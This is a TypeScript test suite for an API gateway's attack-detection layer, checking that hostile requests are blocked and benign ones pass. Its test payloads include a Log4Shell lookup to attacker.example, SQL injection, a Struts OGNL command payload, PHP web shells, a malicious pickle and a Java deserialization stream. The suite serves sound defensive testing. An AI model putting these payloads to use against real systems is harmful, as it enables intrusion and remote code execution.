import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';
import { request } from 'undici';
import { startUpstream, type TestUpstream } from '../helpers/upstream.ts';
import { startGateway, type TestGateway } from '../helpers/gateway.ts';
import { rawRequest } from '../helpers/raw-http.ts';

let upstream: TestUpstream;
let gw: TestGateway;

const JNDI = '${jndi:ldap://attacker.example/a}';

before(async () => {
  upstream = await startUpstream();
  gw = await startGateway({
    upstreams: { up: { url: upstream.url } },
    routes: [
      { name: 'articles', path: '/articles/**', upstream: 'up', protections: { attackDetection: {
        exclusions: [{ categories: ['jndi'], locations: ['body:$.content'], reason: 'rich text field quoting log lines' }],
      } } },
      { name: 'trial', path: '/trial/**', upstream: 'up', protections: { attackDetection: { mode: 'monitor' } } },
      { name: 'uploads', path: '/uploads/**', upstream: 'up', protections: { attackDetection: { uninspectedBodyTypes: ['application/octet-stream'] } } },
      { name: 'lenient', path: '/lenient/**', upstream: 'up', protections: { attackDetection: { unknownBodyTypes: 'inspect' } } },
      { name: 'small-budget', path: '/small/**', upstream: 'up', protections: { attackDetection: { maxInputs: 100 } } },
      { name: 'all', path: '/**', upstream: 'up' },
    ],
  });
});
after(async () => { await gw.close(); await upstream.close(); });

async function send(path: string, options: { method?: string; body?: string | Buffer; headers?: Record<string, string> } = {}) {
  const res = await request(`${gw.url}${path}`, { method: (options.method ?? 'GET') as 'GET', body: options.body, headers: options.headers });
  const text = await res.body.text();
  return { status: res.statusCode, headers: res.headers, text, problem: text.startsWith('{') ? JSON.parse(text) as Record<string, unknown> : {} };
}

test('an attack in a query value is blocked with 403 and a category reason; the upstream never sees it', async () => {
  const count = upstream.requests.length;
  const res = await send(`/search?q=${encodeURIComponent(JNDI)}`);
  assert.equal(res.status, 403);
  assert.equal(res.problem.reason, 'jndi_detected');
  assert.equal(upstream.requests.length, count);
});

test('a short path segment with query or shell syntax is read as a value (a route parameter hands it on)', async () => {
  assert.equal((await send("/api/users/'-'")).status, 403, 'a MySQL login bypass as a 3-character segment');
  assert.equal((await send("/api/users/1'%20LIMIT%201--%20-")).status, 403);
  for (const path of ["/wiki/O'Brien", '/wiki/Foo_(bar)', '/api/users/42', '/a/b-c/d.e']) assert.equal((await send(path)).status, 200, path);
});

test('query-operator injection in parameter names, whatever the ORM: blocked on secrets, passed on ordinary fields', async () => {
  for (const query of ['password[$ne]=x', 'password[$type]=2', 'filters[resetPasswordToken][$notNull]=true', 'where[password][startsWith]=a',
    'filter[where][password][regexp]=%5Ea', 'q[reset_password_token_cont]=a', 'password__regex=%5Ea']) {
    assert.equal((await send(`/api/users?${query}`)).status, 403, query);
  }
  for (const query of ['filters[title][$contains]=shoe', 'filter[where][price][gt]=10', 'q[name_cont]=kim', 'items[0][name]=x']) {
    assert.equal((await send(`/api/users?${query}`)).status, 200, query);
  }
});

test('double-encoded and header-borne attacks are found too', async () => {
  const twice = encodeURIComponent(encodeURIComponent(JNDI));
  assert.equal((await send(`/search?q=${twice}`)).status, 403);
  assert.equal((await send('/', { headers: { 'user-agent': `Mozilla/5.0 ${JNDI}` } })).status, 403);
  assert.equal((await send('/', { headers: { cookie: `session=${encodeURIComponent(JNDI)}` } })).status, 403);
  // base64 of a tag split by a NUL byte, in the path and in a parameter: the NUL is removed after the base64 layer
  const split = Buffer.from('<scr\u0000ipt src=//x.example/a.js></script>').toString('base64url');
  assert.equal((await send(`/files/${split}`)).status, 403);
  assert.equal((await send(`/search?q=${split}`)).status, 403);
});

test('attacks in JSON, form and multipart bodies are blocked; the event names rule, category and JSON path', async () => {
  const json = await send('/api/orders', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ items: [{ note: 'x' }, { note: JNDI }] }) });
  assert.equal(json.status, 403);
  const form = await send('/login', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `user=${encodeURIComponent(JNDI)}` });
  assert.equal(form.status, 403);
  const boundary = 'xYzZY';
  const multipart = `--${boundary}\r\nContent-Disposition: form-data; name="comment"\r\n\r\n${JNDI}\r\n--${boundary}--\r\n`;
  const mp = await send('/upload', { method: 'POST', headers: { 'content-type': `multipart/form-data; boundary=${boundary}` }, body: multipart });
  assert.equal(mp.status, 403);
  const events = (await gw.logs()).filter((r) => r.type === 'security' && r.requestId === json.headers['x-request-id']);
  assert.equal(events.length, 1);
  assert.equal(events[0]!.protection, 'attack-detection');
  assert.equal(events[0]!.reason, 'jndi_detected');
  assert.equal(events[0]!.location, 'body:$.items[1].note');
  assert.match(String(events[0]!.ruleId), /^jndi-/);
  assert.ok(String(events[0]!.excerpt).includes('jndi'));
});

test('a Content-Type that is no media type is inspected even without a body (Struts S2-045); a sloppy one passes', async () => {
  const ognl = "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):0).(#cmd='id')}";
  const res = await send('/struts2-showcase/', { method: 'POST', headers: { 'content-type': ognl } });
  assert.equal(res.status, 403);
  const events = (await gw.logs()).filter((r) => r.type === 'security' && r.requestId === res.headers['x-request-id']);
  assert.equal(events[0]!.location, 'header:content-type');
  assert.equal((await send('/items', { headers: { 'content-type': 'json' } })).status, 200);
});

test('an attack in a secret field is blocked and its excerpt is not logged', async () => {
  const res = await send('/login', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `user=kim&password=${encodeURIComponent("hunter2' or 1=1--")}` });
  assert.equal(res.status, 403);
  const events = (await gw.logs()).filter((r) => r.requestId === res.headers['x-request-id']);
  assert.ok(events.some((r) => r.type === 'security' && r.location === 'body:form:password' && r.excerpt === '[redacted]'));
  assert.ok(!JSON.stringify(events).includes('hunter2'), 'the password appears in no record');
});

test('Log4Shell lookups in credentials and validators (logged as they come) are blocked; their excerpt is redacted', async () => {
  const basic = Buffer.from(`${JNDI}:secret`).toString('base64');
  const sent: Record<string, string>[] = [{ authorization: `Bearer ${JNDI}` }, { authorization: `Basic ${basic}` }, { 'if-none-match': '${${lower:j}ndi:ldap://attacker.example/a}' }];
  for (const headers of sent) {
    const res = await send('/api/me', { headers });
    assert.equal(res.status, 403, JSON.stringify(headers));
    assert.equal(res.problem.reason, 'jndi_detected');
    const event = (await gw.logs()).find((r) => r.type === 'security' && r.requestId === res.headers['x-request-id']);
    if ('authorization' in headers) assert.equal(event?.excerpt, '[redacted]');
  }
  // ordinary credentials pass: a JWT, a password with $ and %
  const password = Buffer.from('kim:pa$$w0rd%1').toString('base64');
  for (const authorization of ['Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln', `Basic ${password}`]) {
    assert.equal((await send('/api/me', { headers: { authorization, 'if-none-match': 'W/"5f3c-$1"' } })).status, 200);
  }
});

test('a JSON body that walks constructor -> prototype is blocked, wherever the names first appeared', async () => {
  const body = JSON.stringify([{ meta: { prototype: 'x' } }, { settings: { constructor: { prototype: { isAdmin: true } } } }]);
  const res = await send('/api/profile', { method: 'POST', headers: { 'content-type': 'application/json' }, body });
  assert.equal(res.status, 403);
  assert.equal(res.problem.reason, 'prototype_pollution_detected');
  const events = (await gw.logs()).filter((r) => r.type === 'security' && r.requestId === res.headers['x-request-id']);
  assert.equal(events[0]!.location, 'body:$[1].settings.constructor.prototype');
  const plain = JSON.stringify({ constructor: 'Vec3', prototype: { methods: ['add'] } });
  assert.equal((await send('/api/profile', { method: 'POST', headers: { 'content-type': 'application/json' }, body: plain })).status, 200);
});

test('a session identifier in a link followed from another site is blocked at the default paranoia; from the same site it passes', async () => {
  const path = '/login?jsessionid=74B0CB414BD77D17B5680A6386EF1666';
  const offsite = await send(path, { headers: { referer: 'https://attacker.example/page' } });
  assert.equal(offsite.status, 403);
  assert.equal(offsite.problem.reason, 'session_fixation_detected');
  const host = new URL(gw.url).host;
  assert.equal((await send(path, { headers: { referer: `http://${host}/account` } })).status, 200);
  assert.equal((await send(path)).status, 200, 'no Referer: a paranoia-2 finding only');
});

test('benign traffic passes: prose, code-like text, URLs in parameters', async () => {
  const samples = [
    '/search?q=select+your+size+from+the+list',
    `/search?q=${encodeURIComponent("O'Brien & Sons - price ${total}")}`,
    `/redirect?next=${encodeURIComponent('https://example.com/a?b=c')}`,
  ];
  for (const path of samples) assert.equal((await send(path)).status, 200, path);
  const json = await send('/api/posts', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ title: 'Hello {{name}}', body: 'if (a < b && c > d) { return; }' }) });
  assert.equal(json.status, 200);
});

test('exclusions turn a category off at a JSON path, and only there', async () => {
  const excluded = await send('/articles/1', { method: 'PUT', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ content: JNDI }) });
  assert.equal(excluded.status, 200);
  const elsewhere = await send('/articles/1', { method: 'PUT', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ title: JNDI }) });
  assert.equal(elsewhere.status, 403);
});

test('monitor mode on a route records would-have-blocked and forwards', async () => {
  const res = await send(`/trial/x?q=${encodeURIComponent(JNDI)}`);
  assert.equal(res.status, 200);
  const event = (await gw.logs()).find((r) => r.type === 'security' && r.requestId === res.headers['x-request-id']);
  assert.equal(event?.wouldBlock, true);
  assert.equal(event?.reason, 'jndi_detected');
});

test('bodies that cannot be inspected are refused: no or unknown Content-Type 415, malformed JSON 400, duplicate keys 400', async () => {
  const count = upstream.requests.length;
  assert.equal((await send('/x', { method: 'POST', body: '{"a":1}' })).problem.reason, 'unsupported_media_type');
  assert.equal((await send('/x', { method: 'POST', body: 'abc', headers: { 'content-type': 'application/x-custom' } })).status, 415);
  const bad = await send('/x', { method: 'POST', body: '{"a":1,}', headers: { 'content-type': 'application/json' } });
  assert.equal(bad.status, 400);
  assert.equal(bad.problem.reason, 'json_invalid');
  const dup = await send('/x', { method: 'POST', body: '{"role":"user","role":"admin"}', headers: { 'content-type': 'application/json' } });
  assert.equal(dup.problem.reason, 'json_duplicate_key');
  assert.equal((await send('/x', { method: 'POST', body: '{}', headers: { 'content-type': 'application/json; charset=utf-7' } })).status, 415);
  assert.equal(upstream.requests.length, count, 'none of them reached the upstream');
});

test('a payload split over parameters is found in the whole query string; quoted words in a search are not SQL', async () => {
  // Each half passes on its own; together, as a backend reading the raw query sees them, they are UNION SELECT.
  assert.equal((await send('/x?x=*/select+password+from+users')).status, 200);
  assert.equal((await send('/x?id=1+union/*')).status, 200);
  assert.equal((await send('/x?id=1+union/*&x=*/select+password+from+users')).status, 403);
  // An XSS cut at raw `&`s into parameters named by its own pieces.
  assert.equal((await send('/x?p=&gt;+src+onerror=confirm&amp;lpar;1&amp;rpar;&lt;')).status, 403);
  // An exact-phrase search and a second parameter: no statement stacked after `q=`.
  for (const word of ['select', 'print', 'commit', 'backup']) {
    assert.equal((await send(`/search?q=%22${word}%22&page=2`)).status, 200, word);
    assert.equal((await send(`/search?q=%27${word}%27&sort=new`)).status, 200, word);
  }
});

test('a Referer URL is inspected like a query: attacks in its parameters or path are found, a quoted search is not SQL', async () => {
  const referer = async (value: string) => (await send('/', { headers: { referer: value } })).status;
  assert.equal(await referer('https://shop.example.com/search?q=%22select%22+from+menu&page=2'), 200);
  assert.equal(await referer('https://shop.example.com/search?q=%27print%27'), 200);
  assert.equal(await referer("http://x.example/?a=1'+union+select+password+from+users--"), 403);
  assert.equal(await referer('http://x.example/?a=%24%7Bjndi%3Aldap%3A%2F%2Fe.example%2Fa%7D'), 403);
  assert.equal(await referer("http://x.example/'+union+select+password+from+users--"), 403);
  assert.equal(await referer("' or 1=1--"), 403);
});

test('the input budget (maxInputs, default 20000) holds for bodies: a 2,000-record list passes, past the budget is 400', async () => {
  // 2,000 transactions of 5 string fields: 10,000 values and 5 names, more than the default of earlier rounds (5000).
  const records = Array.from({ length: 2000 }, (_, i) => ({ id: `T${100000 + i}`, memo: `memo ${i}`, code: `C${i}`, at: `2026-11-${10 + (i % 18)}`, cur: `K${i % 7}`, amt: 1000 + i }));
  const body = JSON.stringify({ list: records });
  assert.equal((await send('/api/bulk', { method: 'POST', headers: { 'content-type': 'application/json' }, body })).status, 200);
  const over = await send('/small/bulk', { method: 'POST', headers: { 'content-type': 'application/json' }, body });
  assert.equal(over.status, 400);
  assert.equal(over.problem.reason, 'too_many_inputs');
  const attack = JSON.stringify({ list: [...records.slice(0, 1999), { id: JNDI }] });
  assert.equal((await send('/api/bulk', { method: 'POST', headers: { 'content-type': 'application/json' }, body: attack })).status, 403, 'the last record is inspected too');
});

test('every text type is inspected as text, JSON by its other names as JSON, NDJSON line by line, protobuf and gRPC-Web by their wire format; other binary field formats stay 415', async () => {
  const csv = 'id,name,note\n1,"Kim, Ji-woo","said ""hi"""\n2,O\'Brien,=SUM(A1:A2)\n';
  assert.equal((await send('/import', { method: 'POST', body: csv, headers: { 'content-type': 'text/csv' } })).status, 200);
  assert.equal((await send('/import', { method: 'POST', body: `1,${JNDI}\n`, headers: { 'content-type': 'text/csv' } })).status, 403);
  assert.equal((await send('/import', { method: 'POST', body: '<p>Hello <b>there</b></p>', headers: { 'content-type': 'text/html' } })).status, 200);
  // A browser's CSP violation report.
  const report = { 'csp-report': { 'document-uri': 'https://shop.example.com/', 'violated-directive': 'script-src-elem', 'blocked-uri': 'inline', 'source-file': 'https://shop.example.com/', 'line-number': 12 } };
  assert.equal((await send('/csp', { method: 'POST', body: JSON.stringify(report), headers: { 'content-type': 'application/csp-report' } })).status, 200);
  const bulk = '{"index":{"_id":"1"}}\n{"msg":"user logged in"}\n';
  assert.equal((await send('/_bulk', { method: 'POST', body: bulk, headers: { 'content-type': 'application/x-ndjson' } })).status, 200);
  const attack = await send('/_bulk', { method: 'POST', body: `{"index":{}}\n{"msg":${JSON.stringify(JNDI)}}\n`, headers: { 'content-type': 'application/x-ndjson' } });
  assert.equal(attack.status, 403);
  const event = (await gw.logs()).find((r) => r.type === 'security' && r.requestId === attack.headers['x-request-id']);
  assert.ok(JSON.stringify(event).includes('body:line2:$.msg'), JSON.stringify(event));
  assert.equal((await send('/_bulk', { method: 'POST', body: '{"a":1}\n{"a":1,}\n', headers: { 'content-type': 'application/x-ndjson' } })).status, 400);
  // protobuf read without its schema: field 1 `abc` passes, field 1 holding a Log4Shell lookup is found, in gRPC-Web too
  assert.equal((await send('/rpc', { method: 'POST', body: Buffer.from('0a03616263', 'hex'), headers: { 'content-type': 'application/x-protobuf' } })).status, 200);
  const lookup = Buffer.concat([Buffer.from([0x0a, JNDI.length]), Buffer.from(JNDI)]);
  assert.equal((await send('/rpc', { method: 'POST', body: lookup, headers: { 'content-type': 'application/x-protobuf' } })).status, 403);
  const frame = Buffer.concat([Buffer.from([0, 0, 0, 0, lookup.length]), lookup]);
  assert.equal((await send('/acme.v1.Search/Find', { method: 'POST', body: frame, headers: { 'content-type': 'application/grpc-web+proto' } })).status, 403);
  assert.equal((await send('/rpc', { method: 'POST', body: '{"not":"protobuf"}', headers: { 'content-type': 'application/x-protobuf' } })).status, 400);
  assert.equal((await send('/rpc', { method: 'POST', body: Buffer.from([0x81, 0xa1, 0x61, 0x01]), headers: { 'content-type': 'application/msgpack' } })).status, 415);
});

test('bodies in EUC-KR are read as Korean: forms, XML, text and JSON pass, attacks in them (full-width too) are blocked; UTF-8 by any name', async () => {
  const euckr = (text: string): Buffer => Buffer.from([...text].flatMap((c) => {
    if (c.charCodeAt(0) < 0x80) return [c.charCodeAt(0)];
    const code = KOREAN.get(c);
    assert.ok(code, `no EUC-KR code in the test table for ${c}`);
    return code;
  }));
  const form = { 'content-type': 'application/x-www-form-urlencoded; charset=EUC-KR' };
  const percent = (bytes: Buffer): string => [...bytes].map((b) => '%' + b.toString(16).toUpperCase().padStart(2, '0')).join('');
  const count = upstream.requests.length;
  // 홍길동, 안녕 as an older Korean site's jQuery posts them, and as its Java clients name the charset
  assert.equal((await send('/login', { method: 'POST', body: `name=${percent(euckr('홍길동'))}&memo=${percent(euckr('안녕'))}`, headers: form })).status, 200);
  assert.equal((await send('/login', { method: 'POST', body: `name=${percent(euckr('홍길동'))}`, headers: { 'content-type': 'application/x-www-form-urlencoded; charset=MS949' } })).status, 200);
  assert.equal((await send('/login', { method: 'POST', body: `name=${percent(euckr('홍길동'))}'+OR+'1'='1`, headers: form })).status, 403);
  // a bank's XML interface: the declaration names the charset
  const xml = Buffer.concat([Buffer.from('<?xml version="1.0" encoding="EUC-KR"?><req><name>'), euckr('홍길동'), Buffer.from('</name></req>')]);
  assert.equal((await send('/soap', { method: 'POST', body: xml, headers: { 'content-type': 'text/xml' } })).status, 200);
  // full-width forms are EUC-KR characters too (KS X 1001 row 3): a backend that folds them reads <script>
  const fullWidth = Buffer.concat([Buffer.from('<?xml version="1.0" encoding="EUC-KR"?><req><name>'), euckr('＜ｓｃｒｉｐｔ＞ａｌｅｒｔ（１）＜／ｓｃｒｉｐｔ＞'), Buffer.from('</name></req>')]);
  assert.equal((await send('/soap', { method: 'POST', body: fullWidth, headers: { 'content-type': 'text/xml' } })).status, 403);
  assert.equal((await send('/note', { method: 'POST', body: euckr('안녕 홍길동'), headers: { 'content-type': 'text/plain; charset=euc-kr' } })).status, 200);
  assert.equal((await send('/x', { method: 'POST', body: Buffer.concat([Buffer.from('{"name":"'), euckr('홍길동'), Buffer.from('"}')]), headers: { 'content-type': 'application/json; charset=euc-kr' } })).status, 200);
  assert.equal((await send('/x', { method: 'POST', body: JSON.stringify({ name: '홍길동' }), headers: { 'content-type': 'application/json; charset=utf8' } })).status, 200);
  assert.equal(upstream.requests.length, count + 6, 'the Korean bodies reached the upstream, the two attacks did not');
  // Shift_JIS's second bytes may be `\` or `|`: a decoder swallows what a byte-level backend reads
  assert.equal((await send('/x', { method: 'POST', body: 'q=%95%5C', headers: { 'content-type': 'application/x-www-form-urlencoded; charset=shift_jis' } })).status, 415);
  assert.equal((await send('/x', { method: 'POST', body: 'q=1', headers: { 'content-type': 'application/x-www-form-urlencoded; charset=ibm037' } })).status, 415);
});

test('multipart filename* (RFC 8187): a Korean file name from .NET or Python passes, a .php hidden behind filename is blocked', async () => {
  const part = (disposition: string, content: Buffer) => Buffer.concat([Buffer.from(`--b\r\nContent-Disposition: form-data; name="f"; ${disposition}\r\nContent-Type: image/jpeg\r\n\r\n`), content, Buffer.from('\r\n--b--\r\n')]);
  const headers = { 'content-type': 'multipart/form-data; boundary=b' };
  const jpeg = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01]);
  const korean = "filename=\"=?utf-8?B?7ZWc6riALmpwZw==?=\"; filename*=utf-8''%ED%95%9C%EA%B8%80.jpg";
  assert.equal((await send('/upload', { method: 'POST', body: part(korean, jpeg), headers })).status, 200);
  assert.equal((await send('/upload', { method: 'POST', body: part("filename*=utf-8''%ED%95%9C%EA%B8%80.jpg", jpeg), headers })).status, 200);
  // the name an RFC 6266 backend keeps is the one after the star
  assert.equal((await send('/upload', { method: 'POST', body: part("filename=\"x.jpg\"; filename*=utf-8''x.php", jpeg), headers })).status, 403);
  // with only filename*, PHP takes the part for a field: its content is inspected whole
  assert.equal((await send('/upload', { method: 'POST', body: part("filename*=utf-8''a.jpg", Buffer.concat([jpeg, Buffer.from("' UNION SELECT password FROM users--")])), headers })).status, 403);
  assert.equal((await send('/upload', { method: 'POST', body: part("filename*=utf-7''a.jpg", jpeg), headers })).status, 400);
});

/** EUC-KR codes of the characters the EUC-KR test above sends. */
const KOREAN = new Map<string, number[]>([
  ['홍', [0xc8, 0xab]], ['길', [0xb1, 0xe6]], ['동', [0xb5, 0xbf]], ['안', [0xbe, 0xc8]], ['녕', [0xb3, 0xe7]],
  ['＜', [0xa3, 0xbc]], ['＞', [0xa3, 0xbe]], ['／', [0xa3, 0xaf]], ['（', [0xa3, 0xa8]], ['）', [0xa3, 0xa9]], ['１', [0xa3, 0xb1]],
  ...[...'scriptale'].map((c): [string, number[]] => [String.fromCharCode(0xff41 + c.charCodeAt(0) - 0x61), [0xa3, 0xe1 + c.charCodeAt(0) - 0x61]]),
]);

test('a route can forward a media type uninspected, or inspect unknown types with every parser', async () => {
  assert.equal((await send('/uploads/a.bin', { method: 'PUT', body: JNDI, headers: { 'content-type': 'application/octet-stream' } })).status, 200);
  assert.equal((await send('/lenient/x', { method: 'POST', body: 'plain words' })).status, 200);
  assert.equal((await send('/lenient/x', { method: 'POST', body: JSON.stringify({ a: JNDI }) })).status, 403, 'found by the JSON parser');
});

test('limits of inspection fail closed: too large to inspect is 413, not passed', async (t) => {
  const small = await startGateway({
    upstreams: { up: { url: upstream.url } },
    routes: [{ path: '/**', upstream: 'up' }],
    protections: { attackDetection: { maxInspectedBodyBytes: 2048, maxValueBytes: 512, maxInputs: 20 } },
  });
  t.after(() => small.close());
  const big = await request(`${small.url}/x`, { method: 'POST', body: 'a'.repeat(4096), headers: { 'content-type': 'text/plain' } });
  assert.equal(big.statusCode, 413);
  assert.equal((await big.body.json() as { reason: string }).reason, 'body_too_large_to_inspect');
  // With a declared length, the refusal comes before any body byte is read.
  const early = await rawRequest(small.port, 'POST /x HTTP/1.1\r\nHost: a\r\nContent-Type: text/plain\r\nContent-Length: 100000\r\n\r\n', { timeoutMs: 1500 });
  assert.equal(early.status, 413);
  assert.match(early.text, /body_too_large_to_inspect/);
  assert.ok(early.elapsedMs < 1000);
  const long = await request(`${small.url}/x?q=${'b'.repeat(600)}`);
  assert.equal(long.statusCode, 413);
  await long.body.dump();
  const many = await request(`${small.url}/x?${Array.from({ length: 30 }, (_, i) => `p${i}=1`).join('&')}`);
  assert.equal(many.statusCode, 400);
  await many.body.dump();
  // A text file in an upload is inspected whole: one longer than the longest value is refused, not cut and passed.
  const upload = (content: string) => request(`${small.url}/x`, {
    method: 'POST', headers: { 'content-type': 'multipart/form-data; boundary=b' },
    body: `--b\r\nContent-Disposition: form-data; name="f"; filename="notes.txt"\r\nContent-Type: text/plain\r\n\r\n${content}\r\n--b--\r\n`,
  });
  const longFile = await upload('c'.repeat(1000));
  assert.equal(longFile.statusCode, 413);
  assert.equal((await longFile.body.json() as { reason: string }).reason, 'input_too_large_to_inspect');
  const shortFile = await upload('c'.repeat(400));
  assert.equal(shortFile.statusCode, 200);
  await shortFile.body.dump();
});

test('inspection past maxInspectionMs is refused with 503 (fail closed), ordinary requests pass', async (t) => {
  const strict = await startGateway({
    upstreams: { up: { url: upstream.url } },
    routes: [{ path: '/**', upstream: 'up' }],
    protections: { attackDetection: { maxInspectionMs: 5 } },
  });
  t.after(() => strict.close());
  // 240 KB of a unit detectors must read with care (each `<style>` opens CSS): tens of milliseconds or more
  const notes = Object.fromEntries(['a', 'b', 'c', 'd'].map((k) => [k, '<style>'.repeat(8500)]));
  const heavy = await request(`${strict.url}/x`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(notes) });
  assert.equal(heavy.statusCode, 503);
  const problem = await heavy.body.json() as { reason: string };
  assert.equal(problem.reason, 'inspection_time_exceeded');
  const ordinary = await request(`${strict.url}/x?q=${encodeURIComponent("O'Brien's order")}`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ note: 'Leave it at the door, please.' }) });
  assert.equal(ordinary.statusCode, 200);
  await ordinary.body.dump();
});

test('a web shell after a long start of a text file in an upload is found: file contents are inspected whole', async () => {
  const content = 'Meeting notes, week 48. '.repeat(3000) + '\n<?php system($_GET["c"]); ?>\n'; // ~70 KiB of text first
  const res = await send('/upload', {
    method: 'POST', headers: { 'content-type': 'multipart/form-data; boundary=b' },
    body: `--b\r\nContent-Disposition: form-data; name="doc"; filename="notes.txt"\r\nContent-Type: text/plain\r\n\r\n${content}\r\n--b--\r\n`,
  });
  assert.equal(res.status, 403);
  assert.equal(res.problem.reason, 'php_detected');
});

test('a body that is a file (an image, a PDF, octet-stream) is inspected as an upload: binary for hidden server code, text whole', async () => {
  const pixels = Buffer.alloc(4096);
  for (let i = 0; i < pixels.length; i++) pixels[i] = (i * 2654435761) >>> 24; // fixed noise, with NUL bytes
  const png = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), pixels]);
  const put = (path: string, type: string, body: Buffer | string) => send(path, { method: 'PUT', body, headers: { 'content-type': type } });
  const count = upstream.requests.length;
  assert.equal((await put('/me/avatar', 'image/png', png)).status, 200);
  const seen = upstream.requests.at(-1)!;
  assert.equal(seen.bodyBytes, png.length);
  assert.equal(seen.bodySha256, createHash('sha256').update(png).digest('hex'), 'forwarded byte for byte');
  assert.equal((await put('/docs/a.pdf', 'application/pdf', Buffer.concat([Buffer.from('%PDF-1.7\n'), pixels]))).status, 200);
  assert.equal((await put('/files/notes.txt', 'application/octet-stream', 'Agenda: select the venue from the list; O\'Brien brings ${drinks}\n')).status, 200);
  // a README uploaded in a part named `file`: its text is no file parameter (a local URL in it is documentation)
  const readme = await send('/api/upload', {
    method: 'POST', headers: { 'content-type': 'multipart/form-data; boundary=b' },
    body: '--b\r\nContent-Disposition: form-data; name="file"; filename="README.md"\r\nContent-Type: text/markdown\r\n\r\n# Dev\n\nRun `npm start`, then open http://localhost:3000.\n\r\n--b--\r\n',
  });
  assert.equal(readme.status, 200);
  assert.equal(upstream.requests.length, count + 4);

  const shell = await put('/me/avatar', 'image/png', Buffer.concat([png.subarray(0, 300), Buffer.from('<?php eval($_POST["x"]); ?>'), png.subarray(300)]));
  assert.equal(shell.status, 403);
  assert.equal(shell.problem.reason, 'php_detected');
  const event = (await gw.logs()).find((r) => r.type === 'security' && r.requestId === shell.headers['x-request-id']);
  assert.ok(JSON.stringify(event).includes('"location":"body"'), JSON.stringify(event));
  assert.equal((await put('/files/log.txt', 'application/octet-stream', `user agent ${JNDI}\n`)).status, 403);
  // JSON sent as a file to a backend that parses every body: escapes are decoded as that backend decodes them
  assert.equal((await put('/files/a', 'application/octet-stream', '{"a":"\\u0024{jndi:ldap://attacker.example/a}"}')).status, 403);
  // a serialized object stream, which a backend that deserializes the body would turn into a gadget chain
  const java = Buffer.concat([Buffer.from('aced0005737200', 'hex'), Buffer.from('\x32sun.reflect.annotation.AnnotationInvocationHandler', 'latin1'), pixels.subarray(0, 200)]);
  const gadget = await put('/invoker/readonly', 'application/octet-stream', java);
  assert.equal(gadget.status, 403);
  assert.equal(gadget.problem.reason, 'java_detected');
  const pickle = Buffer.from('\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.', 'latin1');
  const model = await send('/models', {
    method: 'POST', headers: { 'content-type': 'multipart/form-data; boundary=b' },
    body: Buffer.concat([Buffer.from('--b\r\nContent-Disposition: form-data; name="model"; filename="model.pkl"\r\nContent-Type: application/octet-stream\r\n\r\n'), pickle, Buffer.from('\r\n--b--\r\n')]),
  });
  assert.equal(model.status, 403);
  assert.equal(model.problem.reason, 'code_detected');
  assert.equal(upstream.requests.length, count + 4, 'no attack reached the upstream');
});

test('a compressed body (gzip, deflate, br) is decoded, inspected and forwarded decoded; what cannot be decoded is refused', async () => {
  const post = (body: Buffer, encoding: string, type = 'application/json') => send('/api/events', { method: 'POST', body, headers: { 'content-type': type, 'content-encoding': encoding } });
  const json = Buffer.from(JSON.stringify({ event: 'page_view', note: "O'Brien selected the plan from the list" }));
  const count = upstream.requests.length;
  for (const [encoding, bytes] of [['gzip', gzipSync(json)], ['deflate', deflateSync(json)], ['br', brotliCompressSync(json)], ['GZIP', gzipSync(json)]] as const) {
    assert.equal((await post(bytes, encoding)).status, 200, encoding);
    const seen = upstream.requests.at(-1)!;
    assert.equal(seen.bodySha256, createHash('sha256').update(json).digest('hex'), `${encoding}: the upstream gets the bytes that were inspected`);
    const names = seen.rawHeaders.filter((_, i) => i % 2 === 0).map((n) => n.toLowerCase());
    assert.ok(!names.includes('content-encoding'), `${encoding}: no Content-Encoding left on a decoded body`);
    assert.equal(seen.rawHeaders[seen.rawHeaders.findIndex((h) => h.toLowerCase() === 'content-length') + 1], String(json.length));
  }
  assert.equal(upstream.requests.length, count + 4);

  // attacks that only the decoded body shows
  const form = await post(gzipSync(`q=1' or 1=1-- -&name=${encodeURIComponent(JNDI)}`), 'gzip', 'application/x-www-form-urlencoded');
  assert.equal(form.status, 403);
  assert.equal((await post(brotliCompressSync(`log line ${JNDI}`), 'br', 'text/plain')).status, 403);
  assert.equal((await post(deflateSync(JSON.stringify({ a: JNDI })), 'deflate')).status, 403);
  // what cannot be decoded cannot be inspected
  const zstd = await post(json, 'zstd');
  assert.equal(zstd.status, 415);
  assert.equal(zstd.problem.reason, 'unsupported_content_encoding');
  assert.equal((await post(brotliCompressSync(gzipSync(json)), 'gzip, br')).status, 415);
  const corrupt = await post(Buffer.concat([gzipSync(json).subarray(0, 20), Buffer.from('not gzip')]), 'gzip');
  assert.equal(corrupt.status, 400);
  assert.equal(corrupt.problem.reason, 'content_encoding_invalid');
  const bomb = await post(gzipSync(Buffer.alloc(8 * 1024 * 1024, 0x20)), 'gzip', 'text/plain');
  assert.equal(bomb.status, 413, 'a body that decodes past the inspection limit');
  assert.equal(upstream.requests.length, count + 4, 'none of these reached the upstream');

  // a policy that decodes gzip only
  const strict = await startGateway({ upstreams: { up: { url: upstream.url } }, routes: [{ name: 'all', path: '/**', upstream: 'up' }], http: { requestBodyEncodings: ['gzip'] } });
  try {
    const to = (encoding: string, body: Buffer) => request(`${strict.url}/api/events`, { method: 'POST', body, headers: { 'content-type': 'application/json', 'content-encoding': encoding } });
    const gz = await to('gzip', gzipSync(json));
    assert.equal(gz.statusCode, 200);
    await gz.body.dump();
    const br = await to('br', brotliCompressSync(json));
    assert.equal(br.statusCode, 415);
